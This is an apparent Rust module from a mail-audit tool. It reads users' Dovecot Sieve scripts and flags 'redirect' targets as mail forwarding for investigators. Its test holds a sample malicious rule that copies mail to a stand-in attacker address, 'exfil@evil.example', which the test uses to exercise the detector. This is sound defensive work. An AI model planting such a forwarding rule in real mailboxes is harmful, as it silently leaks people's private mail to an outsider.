//! Sieve scripts for `UpdateInboxRules` records. Dovecot's ManageSieve event names the script
//! but not its text, so the text is read from the user's sieve directory (a path template
//! such as `/var/vmail/%d/%n/sieve`) and kept in the record, with every `redirect` target
//! named as forwarding: an inbox rule that forwards mail out is what an investigator looks
//! for first. A script that cannot be read says so in the record; it is never silently absent.

use mailaudit_model::{Observation, Operation, Parameter};
use std::path::PathBuf;

/// Longest script kept in a record (a parameter's limit).
const MAX_SCRIPT: usize = 64 * 1024;

/// Expands `%u` (the whole user as recorded), `%n` (its local part), `%d` (its domain).
fn expand(template: &str, user: &str) -> String {
    let (local, domain) = user.rsplit_once('@').unwrap_or((user, ""));
    template
        .replace("%u", user)
        .replace("%n", local)
        .replace("%d", domain)
}

/// The targets of `redirect` actions in a Sieve script: `redirect :copy "a@b";` gives `a@b`.
pub fn redirect_targets(script: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = script;
    while let Some(i) = rest.find("redirect") {
        let before_ok = rest[..i]
            .chars()
            .next_back()
            .is_none_or(|c| !c.is_alphanumeric() && c != '_' && c != ':');
        rest = &rest[i + "redirect".len()..];
        if !before_ok {
            continue;
        }
        // Skip tagged arguments (`:copy`, `:list`) up to the quoted address.
        let args = rest.trim_start();
        let mut cursor = args;
        while let Some(tag) = cursor.strip_prefix(':') {
            let end = tag.find(char::is_whitespace).unwrap_or(tag.len());
            cursor = tag[end..].trim_start();
        }
        if let Some(quoted) = cursor.strip_prefix('"') {
            if let Some(end) = quoted.find('"') {
                out.push(quoted[..end].to_string());
            }
        }
    }
    out
}

fn param(name: &str, value: impl Into<String>) -> Parameter {
    Parameter {
        name: name.into(),
        value: value.into(),
    }
}

/// Adds `script` and `forwards_to` parameters (or `script_unavailable` and why) to every
/// `UpdateInboxRules` observation that names a script.
pub fn attach_scripts(observations: &mut [Observation], dir_template: &str) {
    for obs in observations
        .iter_mut()
        .filter(|o| o.operation == Operation::UpdateInboxRules)
    {
        let Some(name) = obs
            .parameters
            .iter()
            .find(|p| p.name == "script_name")
            .map(|p| p.value.clone())
        else {
            continue;
        };
        if name.is_empty() || name.contains('/') || name.contains('\0') || name.starts_with('.') {
            obs.parameters.push(param(
                "script_unavailable",
                format!("the script name `{name}` is not a plain file name"),
            ));
            continue;
        }
        let path = PathBuf::from(expand(dir_template, &obs.mailbox)).join(format!("{name}.sieve"));
        match std::fs::read(&path) {
            Ok(bytes) if bytes.len() <= MAX_SCRIPT => {
                let text = String::from_utf8_lossy(&bytes).into_owned();
                for target in redirect_targets(&text) {
                    obs.parameters.push(param("forwards_to", target));
                }
                obs.parameters.push(param("script", text));
            }
            Ok(bytes) => obs.parameters.push(param(
                "script_unavailable",
                format!(
                    "{} is {} bytes, more than the {MAX_SCRIPT} a record keeps",
                    path.display(),
                    bytes.len()
                ),
            )),
            Err(e) => obs.parameters.push(param(
                "script_unavailable",
                format!("reading {}: {e}", path.display()),
            )),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn redirects_are_found_and_other_words_are_not() {
        let script = "require [\"copy\"];\r\nif header :contains \"subject\" \"x\" { redirect :copy \"exfil@evil.example\"; }\nredirect \"b@c.example\";\n# noredirect \"no@x\"\nfileinto \"redirected\";";
        assert_eq!(
            redirect_targets(script),
            vec!["exfil@evil.example", "b@c.example"]
        );
        assert!(redirect_targets("keep;").is_empty());
        assert!(redirect_targets("redirect").is_empty());
    }

    #[test]
    fn templates_expand_user_parts() {
        assert_eq!(
            expand("/var/vmail/%d/%n/sieve", "alice@example.com"),
            "/var/vmail/example.com/alice/sieve"
        );
        assert_eq!(expand("/home/%u/sieve", "bob"), "/home/bob/sieve");
    }
}
